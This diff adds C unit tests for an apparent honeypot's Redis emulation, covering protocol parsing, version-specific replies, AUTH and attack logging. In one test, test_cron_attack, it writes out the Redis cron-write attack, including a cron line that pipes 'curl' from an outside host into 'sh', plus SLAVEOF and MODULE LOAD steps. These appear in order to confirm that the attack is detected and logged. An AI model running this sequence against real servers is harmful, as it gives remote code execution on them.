@@ -1,0 +1,364 @@
+/*
+ * test_redis.c - unit tests for the Redis emulation (src/proto/redis.c).
+ *
+ * Parser: RESP multibulk and inline commands (quotes, escapes, NUL), every
+ * prefix of a command is "need more" without consuming, the real server's
+ * protocol error texts.  Session (driven without a socket, events caught
+ * with the output tap): replies and error texts per claimed version, INFO
+ * as nmap's probe matches it, the cron-write attack and its stored file's
+ * hash, REPLICAOF logged, AUTH with and without requirepass, QUIT.
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+#include <openssl/evp.h>
+
+#include "buf.h"
+#include "event.h"
+#include "output.h"
+#include "reader.h"
+#include "proto/redis.h"
+
+/* ---- events caught from the tap ---- */
+
+static char *evs[256];
+static size_t nevs;
+
+static void tap(struct hp_event *e, void *arg)
+{
+    (void)arg;
+    if (nevs < 256)
+        evs[nevs++] = strndup(e->json, e->json_len);
+}
+
+static void evs_reset(void)
+{
+    for (size_t i = 0; i < nevs; i++)
+        free(evs[i]);
+    nevs = 0;
+}
+
+/* The n-th event of a type, or NULL. */
+static const char *ev_find(const char *eventid, int nth)
+{
+    char pat[96];
+    snprintf(pat, sizeof(pat), "\"eventid\":\"%s\"", eventid);
+    for (size_t i = 0; i < nevs; i++)
+        if (strstr(evs[i], pat) && nth-- == 0)
+            return evs[i];
+    return NULL;
+}
+
+static size_t ev_count(const char *eventid)
+{
+    size_t n = 0;
+    while (ev_find(eventid, (int)n))
+        n++;
+    return n;
+}
+
+/* ---- the parser ---- */
+
+static int parse_str(const char *s, size_t n, struct hp_redis_cmd *cmd, char *err, size_t *used)
+{
+    struct hp_rd r;
+    hp_rd_init(&r, s, n);
+    int rc = hp_redis_parse(&r, cmd, err, 128);
+    *used = hp_rd_pos(&r);
+    return rc;
+}
+
+static bool arg_is(const struct hp_redis_cmd *c, size_t i, const char *s)
+{
+    return i < c->argc && c->argl[i] == strlen(s) && memcmp(c->argv[i], s, c->argl[i]) == 0;
+}
+
+static void test_parse_multibulk(void **st)
+{
+    (void)st;
+    static struct hp_redis_cmd cmd;
+    char err[128];
+    size_t used;
+    const char *m = "*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$5\r\na\r\nb\0\r\n*1\r\n$4\r\nPING\r\n";
+    size_t first = 31;
+    assert_int_equal(parse_str(m, first + 14, &cmd, err, &used), 1);
+    assert_int_equal(used, first);
+    assert_int_equal(cmd.argc, 3);
+    assert_true(arg_is(&cmd, 0, "SET") && arg_is(&cmd, 1, "x"));
+    assert_int_equal(cmd.argl[2], 5);
+    assert_memory_equal(cmd.argv[2], "a\r\nb\0", 5);
+    for (size_t n = 0; n < first; n++) {          /* every prefix: wait, consume nothing */
+        assert_int_equal(parse_str(m, n, &cmd, err, &used), 0);
+        assert_int_equal(used, 0);
+    }
+    assert_int_equal(parse_str("*0\r\n", 4, &cmd, err, &used), 1);
+    assert_int_equal(cmd.argc, 0);
+    assert_int_equal(used, 4);
+    assert_int_equal(parse_str("*-1\r\n", 5, &cmd, err, &used), 1);
+    assert_int_equal(cmd.argc, 0);
+    hp_redis_cmd_free(&cmd);
+}
+
+static void test_parse_errors(void **st)
+{
+    (void)st;
+    static struct hp_redis_cmd cmd;
+    char err[128];
+    size_t used;
+    assert_int_equal(parse_str("*x\r\n", 4, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: invalid multibulk length");
+    assert_int_equal(parse_str("*+1\r\n", 5, &cmd, err, &used), -1);
+    assert_int_equal(parse_str("*5000\r\n", 7, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: invalid multibulk length");
+    assert_int_equal(parse_str("*1\r\n!3\r\n", 8, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: expected '$', got '!'");
+    assert_int_equal(parse_str("*1\r\n$-3\r\n", 9, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: invalid bulk length");
+    assert_int_equal(parse_str("*1\r\n$99999999\r\n", 16, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: invalid bulk length");
+    assert_int_equal(parse_str("set \"a b\"x\r\n", 12, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: unbalanced quotes in request");
+    assert_int_equal(parse_str("set 'abc\r\n", 10, &cmd, err, &used), -1);
+    size_t big = HP_REDIS_INLINE_MAX + 10;
+    char *junk = malloc(big);
+    memset(junk, 'A', big);
+    assert_int_equal(parse_str(junk, big, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: too big inline request");
+    junk[0] = '*';
+    assert_int_equal(parse_str(junk, big, &cmd, err, &used), -1);
+    assert_string_equal(err, "Protocol error: too big mbulk count string");
+    free(junk);
+    hp_redis_cmd_free(&cmd);
+}
+
+static void test_parse_inline(void **st)
+{
+    (void)st;
+    static struct hp_redis_cmd cmd;
+    char err[128];
+    size_t used;
+    const char *l = "  set  k \"\\n\\x41\\\"q\" 'it\\'s' plain\r\nPING\n";
+    assert_int_equal(parse_str(l, strlen(l), &cmd, err, &used), 1);
+    assert_true(cmd.is_inline);
+    assert_int_equal(cmd.argc, 5);
+    assert_true(arg_is(&cmd, 0, "set") && arg_is(&cmd, 1, "k") && arg_is(&cmd, 2, "\nA\"q"));
+    assert_true(arg_is(&cmd, 3, "it's") && arg_is(&cmd, 4, "plain"));
+    assert_int_equal(parse_str(l + used, strlen(l) - used, &cmd, err, &used), 1);
+    assert_true(arg_is(&cmd, 0, "PING"));
+    assert_int_equal(parse_str("\r\n", 2, &cmd, err, &used), 1);
+    assert_int_equal(cmd.argc, 0);
+    assert_int_equal(parse_str("PING", 4, &cmd, err, &used), 0);
+    assert_int_equal(parse_str("GET a\0b c\r\n", 11, &cmd, err, &used), 1);   /* a C string to the server */
+    assert_int_equal(cmd.argc, 2);
+    assert_int_equal(used, 11);
+    hp_redis_cmd_free(&cmd);
+}
+
+/* ---- sessions ---- */
+
+struct sess {
+    struct hp_redis_conf conf;
+    struct hp_evctx ctx;
+    struct hp_redis_sess *s;
+    struct hp_buf out;
+    bool closed;
+};
+
+static void sess_open(struct sess *t, const char *version, const char *pass)
+{
+    memset(t, 0, sizeof(*t));
+    assert_int_equal(hp_redis_set_version(version), 0);
+    t->conf.version = (char *)version;
+    t->conf.requirepass = (char *)pass;
+    t->conf.port = 6379;
+    snprintf(t->ctx.session, sizeof(t->ctx.session), "0123456789ab");
+    t->ctx.protocol = "redis";
+    t->ctx.transport = "tcp";
+    snprintf(t->ctx.src_ip, sizeof(t->ctx.src_ip), "192.0.2.9");
+    t->ctx.src_port = 40000;
+    t->s = hp_redis_sess_new(&t->conf, &t->ctx, "192.0.2.9:40000");
+    hp_buf_init(&t->out, 8 * 1024 * 1024);
+    evs_reset();
+}
+
+/* Feed bytes, return the replies (NUL-terminated, valid until the next call). */
+static const char *feed(struct sess *t, const char *in, size_t n)
+{
+    struct hp_rd r;
+    hp_rd_init(&r, in, n);
+    hp_buf_reset(&t->out);
+    t->closed = hp_redis_feed(t->s, &r, &t->out);
+    return hp_buf_cstr(&t->out);
+}
+
+static const char *feeds(struct sess *t, const char *in)
+{
+    return feed(t, in, strlen(in));
+}
+
+static void sess_close(struct sess *t)
+{
+    hp_redis_sess_free(t->s);
+    hp_buf_free(&t->out);
+}
+
+static void test_basic_replies(void **st)
+{
+    (void)st;
+    struct sess t;
+    sess_open(&t, "6.0.16", NULL);
+    assert_string_equal(feeds(&t, "*1\r\n$4\r\nPING\r\n"), "+PONG\r\n");
+    assert_string_equal(feeds(&t, "PING hello\r\nECHO \"a b\"\r\n"), "$5\r\nhello\r\n$3\r\na b\r\n");
+    assert_string_equal(feeds(&t, "foo bar baz\r\n"),
+                        "-ERR unknown command `foo`, with args beginning with: `bar`, `baz`, \r\n");
+    assert_string_equal(feeds(&t, "GET\r\n"), "-ERR wrong number of arguments for 'get' command\r\n");
+    assert_string_equal(feeds(&t, "SELECT 16\r\n"), "-ERR DB index is out of range\r\n");
+    assert_string_equal(feeds(&t, "SET a 1\r\nSET b 2\r\nSET hello 3\r\nKEYS h?llo\r\nDBSIZE\r\n"),
+                        "+OK\r\n+OK\r\n+OK\r\n*1\r\n$5\r\nhello\r\n:3\r\n");
+    assert_string_equal(feeds(&t, "KEYS [ab]\r\nEXISTS a b c a\r\nTYPE a\r\nTTL a\r\nTTL zz\r\n"),
+                        "*2\r\n$1\r\na\r\n$1\r\nb\r\n:3\r\n+string\r\n:-1\r\n:-2\r\n");
+    assert_string_equal(feeds(&t, "DEL a zz\r\nGET a\r\nFLUSHALL\r\nDBSIZE\r\n"), ":1\r\n$-1\r\n+OK\r\n:0\r\n");
+    evs_reset();
+    assert_string_equal(feeds(&t, "SHUTDOWN\r\n"), "-ERR Errors trying to SHUTDOWN. Check logs.\r\n");
+    assert_false(t.closed);
+    /* every command is one command.input with the text */
+    assert_int_equal(ev_count("command.input"), 1);
+    assert_non_null(strstr(evs[0], "\"input\":\"SHUTDOWN\""));
+    assert_string_equal(feeds(&t, "QUIT\r\nPING\r\n"), "+OK\r\n");
+    assert_true(t.closed);
+    sess_close(&t);
+
+    sess_open(&t, "7.0.15", NULL);
+    assert_string_equal(feeds(&t, "foo bar\r\n"), "-ERR unknown command 'foo', with args beginning with: 'bar' \r\n");
+    assert_string_equal(feeds(&t, "CONFIG FOO\r\n"), "-ERR unknown subcommand 'FOO'. Try CONFIG HELP.\r\n");
+    sess_close(&t);
+}
+
+static void test_info_like_nmap(void **st)
+{
+    (void)st;
+    struct sess t;
+    sess_open(&t, "5.0.14", NULL);
+    const char *r = feeds(&t, "*1\r\n$4\r\ninfo\r\n");
+    size_t len = strlen(r);
+    assert_true(len > 1000);
+    assert_int_equal(strncmp(r, "$", 1), 0);
+    const char *body = strstr(r, "\r\n") + 2;
+    assert_int_equal(strncmp(body, "# Server\r\nredis_version:5.0.14\r\n", 32), 0);
+    assert_int_equal((size_t)atoi(r + 1), len - (size_t)(body - r) - 2);
+    assert_non_null(strstr(r, "\r\nrole:master\r\n"));
+    assert_non_null(strstr(r, "\r\nos:Linux "));
+    assert_non_null(strstr(r, "\r\n# Keyspace\r\n"));
+    assert_null(strstr(r, "io_threads_active"));    /* not in 5.0 */
+    r = feeds(&t, "INFO server\r\n");
+    assert_null(strstr(r, "# Clients"));
+    sess_close(&t);
+}
+
+static void sha256_hex(const void *p, size_t n, char out[65])
+{
+    unsigned char md[32];
+    unsigned ml = 0;
+    EVP_Digest(p, n, md, &ml, EVP_sha256(), NULL);
+    for (int i = 0; i < 32; i++)
+        snprintf(out + 2 * i, 3, "%02x", md[i]);
+}
+
+static void test_cron_attack(void **st)
+{
+    (void)st;
+    struct sess t;
+    sess_open(&t, "6.2.14", NULL);
+    const char *val = "\n\n*/1 * * * * curl -fsSL http://198.51.100.7/x.sh | sh\n\n";
+    char cmd[512];
+    snprintf(cmd, sizeof(cmd), "*3\r\n$3\r\nset\r\n$7\r\nbackup1\r\n$%zu\r\n%s\r\n", strlen(val), val);
+    assert_string_equal(feeds(&t, "config set dir /var/spool/cron/\r\nconfig set dbfilename root\r\n"),
+                        "+OK\r\n+OK\r\n");
+    assert_string_equal(feeds(&t, cmd), "+OK\r\n");
+    assert_string_equal(feeds(&t, "CONFIG GET dir\r\n"), "*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n");
+    assert_string_equal(feeds(&t, "config set dbfilename ../../etc/x\r\n"),
+                        "-ERR Invalid argument '../../etc/x' for CONFIG SET 'dbfilename'\r\n");
+    assert_string_equal(feeds(&t, "SAVE\r\n"), "+OK\r\n");
+    const char *fw = ev_find("redis.file_write", 0);
+    assert_non_null(fw);
+    char sha[65], want[100];
+    sha256_hex(val, strlen(val), sha);
+    snprintf(want, sizeof(want), "\"sha256\":\"%s\"", sha);
+    assert_non_null(strstr(fw, want));
+    assert_non_null(strstr(fw, "\"path\":\"/var/spool/cron/root\""));
+    const char *up = ev_find("session.file_upload", 0);
+    assert_non_null(up);
+    assert_non_null(strstr(up, sha));
+    /* REPLICAOF: logged, the role changes, nothing else happens */
+    assert_string_equal(feeds(&t, "SLAVEOF 203.0.113.5 21000\r\n"), "+OK\r\n");
+    const char *ro = ev_find("redis.replicaof", 0);
+    assert_non_null(ro);
+    assert_non_null(strstr(ro, "\"host\":\"203.0.113.5\",\"port\":21000"));
+    assert_non_null(strstr(feeds(&t, "INFO replication\r\n"), "role:slave\r\nmaster_host:203.0.113.5\r\n"));
+    assert_string_equal(feeds(&t, "MODULE LOAD /tmp/exp.so\r\n"),
+                        "-ERR Error loading the extension. Please check the server logs.\r\n");
+    assert_non_null(ev_find("redis.module_load", 0));
+    assert_string_equal(feeds(&t, "EVAL \"return 1\" 0\r\n"), "$-1\r\n");
+    assert_string_equal(feeds(&t, "EVAL \"x\" 2 a\r\n"), "-ERR Number of keys can't be greater than number of args\r\n");
+    assert_int_equal(ev_count("redis.eval"), 1);
+    sess_close(&t);
+}
+
+static void test_auth(void **st)
+{
+    (void)st;
+    struct sess t;
+    sess_open(&t, "6.0.16", NULL);                   /* no password: AUTH is an error, commands work */
+    assert_string_equal(feeds(&t, "AUTH foo\r\n"),
+                        "-ERR AUTH <password> called without any password configured for the default user. "
+                        "Are you sure your configuration is correct?\r\n");
+    assert_non_null(strstr(ev_find("login.failed", 0), "\"username\":\"default\",\"password\":\"foo\""));
+    sess_close(&t);
+
+    sess_open(&t, "7.0.15", "s3cret");
+    assert_string_equal(feeds(&t, "GET x\r\n"), "-NOAUTH Authentication required.\r\n");
+    assert_string_equal(feeds(&t, "AUTH a\r\nAUTH b\r\n"),
+                        "-WRONGPASS invalid username-password pair or user is disabled.\r\n"
+                        "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
+    assert_string_equal(feeds(&t, "AUTH s3cret\r\nGET x\r\n"), "+OK\r\n$-1\r\n");
+    assert_int_equal(ev_count("login.failed"), 2);
+    assert_int_equal(ev_count("login.success"), 1);
+    sess_close(&t);
+
+    sess_open(&t, "5.0.14", "s3cret");
+    assert_string_equal(feeds(&t, "AUTH no\r\n"), "-ERR invalid password\r\n");
+    sess_close(&t);
+}
+
+static void test_protocol_error_closes(void **st)
+{
+    (void)st;
+    struct sess t;
+    sess_open(&t, "6.2.14", NULL);
+    assert_string_equal(feeds(&t, "PING\r\n*1\r\n!4\r\nPING\r\n"), "+PONG\r\n-ERR Protocol error: expected '$', got '!'\r\n");
+    assert_true(t.closed);
+    sess_close(&t);
+}
+
+int main(void)
+{
+    hp_output_set_tap(tap, NULL);
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_parse_multibulk),
+        cmocka_unit_test(test_parse_errors),
+        cmocka_unit_test(test_parse_inline),
+        cmocka_unit_test(test_basic_replies),
+        cmocka_unit_test(test_info_like_nmap),
+        cmocka_unit_test(test_cron_attack),
+        cmocka_unit_test(test_auth),
+        cmocka_unit_test(test_protocol_error_closes),
+    };
+    int rc = cmocka_run_group_tests(tests, NULL, NULL);
+    evs_reset();
+    return rc;
+}
